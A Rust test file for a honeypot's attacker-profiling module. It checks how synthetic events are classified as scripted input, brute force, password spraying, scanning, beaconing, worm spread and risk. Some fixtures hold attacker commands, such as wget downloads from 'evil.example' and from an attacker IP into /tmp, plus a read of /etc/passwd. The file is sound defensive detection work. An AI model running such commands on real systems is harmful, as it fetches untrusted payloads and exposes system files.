//! What becomes a profile of which events.

use super::*;
use decnet_model::record::{Behaviour, TraitKind};
use netsvc_wire::WriterId;
use proptest::prelude::*;

const SECOND: Micros = 1_000_000;

fn row(id: i64, at: Micros, node: &str, service: &str, kind: &str, fields: &[(&str, &str)]) -> EventRow {
    EventRow {
        id,
        writer: WriterId(1),
        number: 1,
        at,
        node: node.into(),
        service: service.into(),
        kind: kind.into(),
        src_ip: "198.51.100.7".parse().ok(),
        src_port: None,
        dst_port: None,
        session: Some("s".into()),
        probe: false,
        host: None,
        class: decnet_model::record::class_of(kind),
        fields: fields.iter().map(|(name, value)| ((*name).into(), value.as_bytes().to_vec())).collect(),
    }
}

fn made(rows: &[EventRow]) -> Profile {
    let mut profile = Profile::default();
    rows.iter().for_each(|row| profile.add(row));
    profile
}

fn commands(every: &[Micros]) -> Vec<EventRow> {
    let mut at = 0;
    let gaps = every.iter().enumerate();
    gaps.map(|(index, gap)| {
        at += gap;
        row(
            index as i64 + 1,
            at,
            "web-01",
            "ssh",
            "command",
            &[("command", &format!("ls /var/log/{index}x"))],
        )
    })
    .collect()
}

#[test]
fn who_types_is_told_from_who_pastes() {
    let by_hand = made(&commands(&[0, 3 * SECOND, SECOND, 9 * SECOND, 2 * SECOND, 20 * SECOND]));
    assert_eq!(behaviour(&by_hand).0, Behaviour::Interactive);
    assert_eq!(behaviour(&made(&commands(&[0, 900, 800, 1000, 950]))).0, Behaviour::Scripted);
    assert_eq!((by_hand.phase(), by_hand.commanded), (Phase::Action, 6));
}

#[test]
fn guessing_and_spraying_are_two_things() {
    let guess = |index: i64, name: &str, secret: &str| {
        let fields = [("principal", name), ("secret_printable", secret), ("outcome", "rejected")];
        row(index, index * SECOND, "web-01", "ssh", "auth_attempt", &fields)
    };
    let guessing: Vec<_> = (1..=20).map(|n| guess(n, "root", &format!("pw{n}x"))).collect();
    let spraying: Vec<_> = (1..=20).map(|n| guess(n, &format!("user{n}"), "Winter2026")).collect();
    assert_eq!(behaviour(&made(&guessing)).0, Behaviour::BruteForce);
    assert_eq!(behaviour(&made(&spraying)).0, Behaviour::Spraying);
    assert_eq!(made(&guessing).phase(), Phase::Access);
}

#[test]
fn scanning_is_told_by_pace() {
    let scan = |gap: Micros| -> Vec<_> {
        (1..=8).map(|n| row(n, n * gap, &format!("n{n}"), "ssh", "connect", &[])).collect()
    };
    assert_eq!(behaviour(&made(&scan(SECOND))).0, Behaviour::Scanning);
    assert_eq!(behaviour(&made(&scan(600 * SECOND))).0, Behaviour::SlowScan);
    let beacon: Vec<_> = (1..=12).map(|n| row(n, n * 60 * SECOND, "n1", "http", "connect", &[])).collect();
    assert_eq!(behaviour(&made(&beacon)).0, Behaviour::Beaconing);
    assert_eq!(behaviour(&made(&scan(SECOND)[..2])).0, Behaviour::Unknown);
}

#[test]
fn risk_is_the_sum_of_its_terms_and_grows_with_what_is_done() {
    let accepted = [("principal", "svc-x"), ("secret_printable", "Qr7!wint4"), ("outcome", "accepted")];
    let rows = [
        row(1, 0, "web-01", "ssh", "connect", &[]),
        row(2, SECOND, "web-01", "ssh", "auth_attempt", &accepted),
        row(
            3,
            2 * SECOND,
            "web-01",
            "ssh",
            "command",
            &[("command", "wget http://evil.example/a -O /tmp/a")],
        ),
        row(4, 3 * SECOND, "web-01", "ssh", "download_attempt", &[("url", "http://evil.example/a")]),
        row(
            5,
            4 * SECOND,
            "web-01",
            "ssh",
            "file_captured",
            &[("sha256", &"ab".repeat(32)), ("size", "4096")],
        ),
        row(6, 5 * SECOND, "web-01", "ftp", "file_read", &[("path", "/etc/passwd")]),
    ];
    let mut last = 0;
    for count in 1..=rows.len() {
        let profile = made(&rows[..count]);
        let (terms, sum) = risk(&profile);
        assert_eq!(terms.iter().map(|term| term.points).sum::<i64>(), sum as i64, "{terms:?}");
        assert!(last <= sum, "{terms:?}");
        last = sum;
    }
    let whole = made(&rows);
    assert_eq!((whole.phase(), whole.urls.len(), whole.payloads.count()), (Phase::Exfil, 1, 1));
    let kinds: Vec<_> = whole.traits().iter().map(|one| one.kind).collect();
    for kind in [TraitKind::Loot, TraitKind::Host, TraitKind::Payload, TraitKind::Network] {
        assert!(kinds.contains(&kind), "{kind}: {kinds:?}");
    }
    // The name of a login that works was found with it; and nothing was fetched from the attacker himself.
    for kind in [TraitKind::Principal, TraitKind::Spread] {
        assert!(!kinds.contains(&kind), "{kind}: {kinds:?}");
    }
}

#[test]
fn a_worm_is_who_fetches_from_himself() {
    let tried = [("principal", "svc-x"), ("secret_printable", "Qr7!wint4"), ("outcome", "rejected")];
    for (kind, field, value) in [
        ("download_attempt", "url", "http://198.51.100.7/x.sh"),
        ("command", "command", "cd /tmp; wget http://198.51.100.7:8080/bins.sh"),
    ] {
        let profile = made(&[
            row(1, 0, "web-01", "ssh", "auth_attempt", &tried),
            row(2, SECOND, "web-01", "ssh", kind, &[(field, value)]),
        ]);
        let kinds: Vec<_> = profile.traits().iter().map(|one| one.kind).collect();
        for kind in [TraitKind::Spread, TraitKind::Host, TraitKind::Pair, TraitKind::Principal] {
            assert!(kinds.contains(&kind), "{kind}: {kinds:?}");
        }
    }
}

#[test]
fn tools_are_told_with_what_says_so() {
    let agent = [("user_agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"), ("target", "/")];
    let profile = made(&[
        row(1, 0, "a", "http", "request", &agent),
        row(2, 1, "a", "ssh", "client_fingerprint", &[("client_version", "SSH-2.0-Go")]),
        row(
            3,
            2,
            "a",
            "http",
            "request",
            &[("user_agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("target", "/")],
        ),
    ]);
    let told: Vec<_> = profile.tools.iter().map(|tool| (tool.name.as_str(), tool.field.as_str())).collect();
    assert_eq!(told, [("nmap", "user_agent"), ("Go crypto/ssh", "client_version")]);
}

#[test]
fn a_flood_and_a_probe_are_what_they_are() {
    let flood = row(1, 0, "a", "ssh", "flood", &[("name", "auth_attempt"), ("count", "5000")]);
    assert_eq!(made(std::slice::from_ref(&flood)).counts.events, 5000);
    assert_eq!(key(&EventRow { probe: true, ..flood.clone() }), None);
    assert_eq!(key(&flood), flood.src_ip);
}

fn any_row() -> impl Strategy<Value = (u8, u8, u32, String, String)> {
    (0..12_u8, 0..4_u8, 0..100_000_u32, ".{0,12}", "[ -~]{0,24}")
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn what_was_stored_and_read_back_goes_on_as_if_nothing_were(
        rows in proptest::collection::vec(any_row(), 1..80),
        cut in 0..80_usize,
    ) {
        let kinds = ["connect", "auth_attempt", "key_offer", "command", "request", "query", "download_attempt",
            "file_captured", "disconnect", "client_fingerprint", "port_scan", "message_stored"];
        let rows: Vec<EventRow> = rows.into_iter().enumerate().map(|(index, (kind, node, at, one, two))| {
            let fields = [("principal", one.as_str()), ("secret_printable", two.as_str()), ("command", two.as_str()),
                ("url", two.as_str()), ("key_sha256", one.as_str()), ("sha256", one.as_str()), ("size", "100"),
                ("user_agent", two.as_str()), ("hassh", one.as_str()), ("mail_from", two.as_str())];
            row(index as i64 + 1, i64::from(at) * 1000, &format!("n{node}"), "ssh",
                kinds[usize::from(kind)], &fields)
        }).collect();
        let address = "198.51.100.7".parse().unwrap();
        let whole = made(&rows).row(address);
        let cut = cut.min(rows.len());
        let mut profile = made(&rows[..cut]);
        if cut > 0 {
            profile = Profile::read(&profile.row(address)).unwrap();
        }
        rows[cut..].iter().for_each(|row| profile.add(row));
        prop_assert_eq!(profile.row(address), whole);
    }
}
